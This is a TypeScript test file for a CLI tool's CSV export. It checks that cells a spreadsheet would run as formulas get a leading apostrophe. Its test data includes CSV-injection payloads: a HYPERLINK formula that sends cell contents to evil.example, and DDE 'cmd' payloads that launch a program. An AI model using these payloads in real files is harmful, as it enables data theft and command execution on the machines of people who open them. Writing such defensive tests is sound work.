import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { cli, DEMO_ENV, useEmulatorRepo } from "../src/testing/helpers.js";

// A CSV is data: every CSV revsync writes gives a cell that a spreadsheet would run as a formula (one that
// starts with =, +, -, @, a tab or a carriage return) a leading apostrophe, as OWASP's guidance on CSV
// injection says; numbers stay numbers; JSON keeps the service's text. Each file is read back by a real
// CSV parser (csv-parse), as a spreadsheet's import reads it.

const fx = useEmulatorRepo();
const run = (args: string[]) => cli(args, { cwd: fx.repo, env: DEMO_ENV });

/** Text anyone who can make an error transaction or upload a price list writes, one per dangerous start. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
/** A cell as a spreadsheet would run it. */
const runs = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe("CSV that is data", () => {
  it("errors --format csv and --summary: each formula-like cell starts with an apostrophe, numbers stay numbers; JSON keeps the text", async () => {
    const state = await fx.emu.admin<any>("GET", "state");
    const records = state.tenants[0].errorTransactions.records;
    // The first six are order errors (what --type order lists).
    FORMULAS.slice(0, 6).forEach((f, i) => (records[i].error_warning_message = f));
    records[0].suggestions = FORMULAS[0];
    records[1].suggestions = FORMULAS[6];
    records[0].error_warning_code = "-15";
    records[1].document_identifier = "@home";
    await fx.emu.admin("POST", "reset", { state });

    const csv = await run(["errors", "--type", "order", "--format", "csv"]);
    expect(csv.code).toBe(0);
    const rows = parse(csv.stdout, { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.filter(runs)).toEqual([]);
    const messages = rows.map((r) => r.error_warning_message);
    for (const f of FORMULAS.slice(0, 5)) expect(messages).toContain(`'${f}`);
    expect(rows[0]?.suggestions).toBe(`'${FORMULAS[0]}`);
    // A tab or carriage return is shown as text (a report's cells never hold control characters), so the
    // cell starts with a backslash.
    expect(messages).toContain("\\t=1+1");
    expect(rows[1]?.suggestions).toBe("\\r=1+1");
    expect(rows.find((r) => r.document_identifier === "'@home")).toBeDefined();
    expect(rows[0]?.error_warning_code).toBe("-15");

    const summary = await run(["errors", "--type", "order", "--summary", "--format", "csv"]);
    const sums = parse(summary.stdout, { columns: true }) as Record<string, string>[];
    expect(sums.flatMap((r) => Object.values(r)).filter(runs)).toEqual([]);
    expect(sums.map((r) => r.code)).toContain("-15");
    expect(sums.every((r) => /^\d+$/.test(r.count ?? ""))).toBe(true);

    const json = JSON.parse((await run(["errors", "--type", "order", "--format", "json"])).stdout);
    expect(json.records.map((r: any) => r.error_warning_message)).toContain(FORMULAS[0]);
  });

  it("export writes a values file whose formula-like product ids start with an apostrophe, plan reads them back as the service's text (no change); ssp download keeps the service's bytes and says so", async () => {
    const state = await fx.emu.admin<any>("GET", "state");
    const hw = state.tenants[0].ssp.find((p: any) => p.compliance_name === "Hardware SSP");
    const batch = hw.batches.find((b: any) => b.file_id === "FILE-SSP-HW-1");
    const ids = ["=1+2", "+SUM(A1)", "@x", "'=already"];
    batch.ssp_values.forEach((v: any, i: number) => (v.product_id = ids[i] ?? v.product_id));
    const header = "product_id,currency_code,value_type,below_mid_point,mid_point,above_mid_point,effective_start_date,effective_end_date";
    state.tenants[0].files["FILE-SSP-HW-1"] = [
      header,
      ...batch.ssp_values.map((v: any) =>
        [v.product_id, v.currency_code, v.value_type, v.below_mid_point, v.mid_point, v.above_mid_point, v.effective_start_date, v.effective_end_date].join(
          ",",
        ),
      ),
    ].join("\n");
    await fx.emu.admin("POST", "reset", { state });

    const exported = await run(["export"]);
    expect(exported.code, exported.stderr).toBe(0);
    const file = (readdirSync(join(fx.repo, "policies"), { recursive: true }) as string[]).find((f) => /fy25-h2\.csv$/i.test(f));
    const rows = parse(readFileSync(join(fx.repo, "policies", file ?? ""), "utf8"), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.product_id)).toEqual(expect.arrayContaining(["'=1+2", "'+SUM(A1)", "'@x", "''=already"]));
    expect(rows.flatMap((r) => Object.values(r)).filter(runs)).toEqual([]);
    // The batch's values in git are the service's (the demo's git holds a policy the service does not: a create).
    const plan = await run(["plan"]);
    expect(plan.code, plan.stderr).toBe(0);
    expect(plan.stdout).not.toContain("FY25-H2");

    const download = await run(["ssp", "download", "FILE-SSP-HW-1"]);
    expect(download.stdout).toBe(state.tenants[0].files["FILE-SSP-HW-1"]);
    expect(download.stderr).toContain("the service's file holds 3 cells that a spreadsheet would run as a formula (the first at line 2, column 1");
  });
});
